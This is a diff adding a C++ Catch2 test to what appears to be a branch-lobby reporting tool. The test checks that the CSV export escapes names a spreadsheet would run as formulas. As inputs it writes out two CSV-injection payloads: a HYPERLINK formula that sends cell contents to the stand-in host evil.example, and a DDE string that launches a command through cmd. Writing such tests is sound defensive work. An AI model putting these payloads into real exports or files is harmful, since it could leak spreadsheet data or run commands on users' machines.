@@ -513,6 +513,18 @@ TEST_CASE("the running day's waiting and serving counts in the CSV and JSON") {
     CHECK_THAT(csv, Catch::Contains("B Corporate,2,,0,,0,,0,,1,,1,,"));
 }
 
+TEST_CASE("a name a spreadsheet would run as a formula is written as text in the CSV") {
+    using K = lobby::EventKind;
+    const std::vector<lobby::LobbyEvent> events = {at(K::Issued, "2026-01-07T09:00:00", "B001", 0)};
+    report::Report r = report::build(events, {}, branch(), "2026-01-07", "2026-01-07", {}, {});
+    r.branchName = "=HYPERLINK(\"http://evil.example/\"&A1,\"report\")";
+    r.branchId = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const std::string csv = report::toCsv(r, report::Lang::En);
+    CHECK_THAT(csv, Catch::Contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"report\"\")\","));
+    CHECK_THAT(csv, Catch::Contains(",'@SUM(1+1)*cmd|' /C calc'!A0"));
+    CHECK_THAT(csv, !Catch::Contains(",=HYPERLINK") && !Catch::Contains(",\"=HYPERLINK") && !Catch::Contains(",@SUM"));
+}
+
 TEST_CASE("a call at a closed window opens it; a finish after the window closed does not reopen it") {
     using K = lobby::EventKind;
     const std::vector<lobby::LobbyEvent> events = {
